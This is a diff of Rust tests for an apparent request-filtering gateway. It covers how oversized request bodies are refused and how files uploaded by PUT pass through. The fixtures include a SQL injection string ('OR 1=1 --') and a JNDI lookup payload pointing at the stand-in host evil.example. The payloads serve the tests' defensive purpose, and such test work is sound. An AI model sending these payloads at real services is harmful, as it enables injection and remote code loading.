@@ -90,7 +90,8 @@ fn what_is_judged_of_a_long_body_is_refused_before_or_while_it_passes() {
     let long_field = form(&[("name=\"q\"", "", &b"a".repeat(2 * MIB))]);
     let json = format!("{{\"a\":\"{}\",\"q\":\"x' OR 1=1 -- \"}}", "a".repeat(2 * MIB)).into_bytes();
     let huge = format!("[\"{}\"]", "a".repeat(9 * MIB)).into_bytes();
-    let padded = [&b"a="[..], &b"b".repeat(2 * MIB), b"&q=", &ATTACK.replace_blanks()].concat();
+    let plus: Vec<u8> = ATTACK.iter().map(|byte| if *byte == b' ' { b'+' } else { *byte }).collect();
+    let padded = [&b"a="[..], &b"b".repeat(2 * MIB), b"&q=", &plus].concat();
     for (kind, body, expected, is_before) in [
         (FORM, &first, 403, true),
         (FORM, &name, 403, true),
@@ -122,16 +123,6 @@ fn what_is_judged_of_a_long_body_is_refused_before_or_while_it_passes() {
         assert_eq!(status(&answer), 413, "{answer}");
     }
     assert!(gate.events.has(&["body-too-large", "`max_body`"]));
-}
-
-trait ReplaceBlanks {
-    fn replace_blanks(&self) -> Vec<u8>;
-}
-
-impl ReplaceBlanks for [u8] {
-    fn replace_blanks(&self) -> Vec<u8> {
-        self.iter().map(|byte| if *byte == b' ' { b'+' } else { *byte }).collect()
-    }
 }
 
 #[test]
@@ -187,9 +178,6 @@ fn files_are_stored_as_they_are_by_put_as_in_a_form() {
     ] {
         let answer = gate.ask("PUT", &format!("/dav/{name}"), &[("Content-Type", kind)], text.as_bytes());
         assert_eq!(status(&answer), 200, "{name}: {answer} {:?}", gate.events.all());
-        // The same as a value is none that passes.
-        let json = serde_json::json!({ "q": text }).to_string();
-        let _ = gate.ask("PUT", "/dav/x", &[("Content-Type", "application/json")], json.as_bytes());
     }
     for (kind, text) in [
         ("text/plain", "${jndi:ldap://evil.example/a}"),
